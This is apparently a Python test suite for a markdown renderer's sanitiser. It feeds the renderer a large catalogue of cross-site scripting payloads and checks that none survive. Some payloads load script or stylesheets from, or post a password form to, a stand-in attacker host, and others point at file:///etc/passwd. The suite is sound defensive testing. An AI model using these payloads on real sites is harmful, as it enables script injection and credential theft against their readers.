"""Text written to run script in a reader's browser, and what becomes of it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.markdown import MAX_LENGTH, render
from tests.safety.markup import problems_in

CALL = "alert(1)"
RAW = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script\n>{CALL}</script\n>",
    "<script src=//evil.example/x.js></script>",
    "<script/x src=data:,alert(1)></script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=9>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'/>",
    f"<img src=x onerror={CALL}>",
    f'<img src="x" onerror="{CALL}" />',
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x:x onerror\x0b={CALL}>",
    f'<img """><script>{CALL}</script>">',
    f'<img src="a" alt="><script>{CALL}</script>">',
    f"<img src='/uploads/x' title='\"><svg onload={CALL}>'>",
    "<img srcset='https://evil.example/x 1x' src=/uploads/a>",
    "<img src='/uploads/../accounts/logout/'>",
    "<img src='/\\evil.example/x.png'>",
    "<img src=`javascript:alert(1)`>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href='https://ok.example' target=_blank ping=https://evil.example style=color:red>x</a>",
    "<a name=location id=location>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example/><input name=password><button>ok</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=x></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!-- --><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p id=csrfmiddlewaretoken class='modal show btn btn-primary'>x</p>",
    "<a href=x hx-get=/accounts/logout/ hx-trigger=load data-hx-post=/x>x</a>",
    "<div hx-on:click=alert(1) hx-vals='js:{a:alert(1)}'>x</div>",
    "<div tabindex=999 data-bs-toggle=modal data-key=n>x</div>",
    "<portal src=https://evil.example></portal>",
    "<dialog open>x</dialog>",
    "<button popovertarget=x>x</button><div popover id=x>y</div>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u200bscript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java script:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](\x01javascript:alert(1))",
    "[x](https://ok.example 'a\" onclick=\"alert(1)')",
    '[x](https://ok.example "\'><script>alert(1)</script>")',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> 'y'\n\n[x][x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](/uploads/a.png)',
    '![x](/uploads/a.png"onerror="alert(1))',
    "![x](/uploads/a.png 'y\" onerror=\"alert(1)')",
    "![<script>alert(1)</script>](https://evil.example/a.png)",
    '![x](https://evil.example/a.png?"><script>alert(1)</script>)',
    "![x](http://[evil)",
    "![x](//evil.example/a.png)",
    "![x](/\\evil.example/a.png)",
    "![x](/uploads/..%2f..%2faccounts/logout/)",
    "<javascript:alert(1)>",
    "<vbscript:alert(1)>",
    "<data:text/html,x>",
    "javascript:alert(1)",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    "www.ok.example/'onclick='alert(1)",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '# x" onclick="alert(1)',
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <img src=x onerror=alert(1)>",
    "- [x](javascript:alert(1))",
    "term\n: <script>alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<a href='\n\n[x](javascript:alert(1))",
    "**<b onclick=alert(1)>x**",
    "<details><summary onclick=alert(1)>x</summary>\n\n<script>alert(1)</script>\n\n</details>",
    "</div></section></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "-->\n<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", RAW + MARKDOWN)
def test_nothing_gets_through_that_is_not_on_our_short_list(text):
    assert problems_in(render(text)) == []


@pytest.mark.parametrize("around", ["> {}", "- {}", "**{}**", "[{}](https://ok.example)", "# {}"])
def test_nor_inside_other_marks(around):
    for text in RAW + MARKDOWN:
        assert problems_in(render(around.format(text))) == [], text


def test_the_check_itself_sees_an_attack():
    assert problems_in("<img src=x onerror=alert(1)>") != []
    assert problems_in("<a href='java\nscript:alert(1)'>x</a>") != []
    assert problems_in("<p><!-- x --></p>") != []


pieces = st.sampled_from(
    [*RAW, *MARKDOWN, "\n", "\n\n", "'", '"', "`", "<", ">", "</", "](", "&#", "--", "<!--", "\x00"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(pieces, min_size=1, max_size=8).map("".join))
def test_nor_in_any_mixture_of_them(text):
    assert problems_in(render(text)) == []


TYPED = [
    "<scr<b>ipt>alert(1)</scr</b>ipt>",
    "<b><script>alert(1)</script></b>",
    "<b onclick=alert(1)>x</b>",
    "<b\n onclick=alert(1)>x</b>",
    "<br onload=alert(1)>",
    "<br/onload=alert(1)//>",
    "<details ontoggle=alert(1) open>\nx\n</details>",
    "<details open>\n<summary><img src=x onerror=alert(1)></summary>\nx\n</details>",
    "<details>\n<summary onclick=alert(1)>x</summary>\n</details>",
    "<summary><script>alert(1)</script></summary>",
    "<sub><details></sub>\n</details><svg onload=alert(1)>",
    "<!-- <b> --><script>alert(1)</script><!-- </b> -->",
    "<!-- x\n--> <img src=x onerror=alert(1)>",
    "<kbd>[x](javascript:alert(1))</kbd>",
    "<mark>&lt;script&gt;alert(1)&lt;/script&gt;</mark>",
    "``` <script>alert(1)</script>\nx\n```",
    "| a |\n|---|\n| b | <img src=x onerror=alert(1)> | <svg onload=alert(1)> |",
    "[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>]: javascript:alert(1)",
    "[a]: javascript:alert(1)\n\n[a]",
    "[](javascript:alert(1))",
    '[](https://ok.example/"onmouseover="alert(1))',
    "https://ok.example/<img src=x onerror=alert(1)>",
    "https://ok.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    ">" * 40 + "<script>alert(1)</script>",
    "![<img src=x onerror=alert(1)>](/uploads/a.png)",
    '![" onerror="alert(1)](/uploads/a.png \'x" onload="alert(1)\')',
    "javascript://ok.example/%0aalert(1)",
    'x@ok.example" onclick="alert(1)',
]


@pytest.mark.parametrize("text", TYPED)
@pytest.mark.parametrize("around", ["{}", "> {}", "- {}", "<b>{}</b>", "<details>\n{}\n</details>"])
def test_what_is_shown_as_typed_runs_nothing(text, around):
    assert problems_in(render(around.format(text))) == []


@pytest.mark.parametrize("text", RAW)
def test_a_text_that_is_too_long_to_format_runs_nothing(text):
    assert problems_in(render(text + " " * MAX_LENGTH)) == []


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from([*TYPED, "<b>", "</b>", "<details>\n", "\n</details>"]), max_size=6)
)
def test_nor_does_any_mixture_of_what_is_shown_as_typed(texts):
    assert problems_in(render("\n".join(texts))) == []
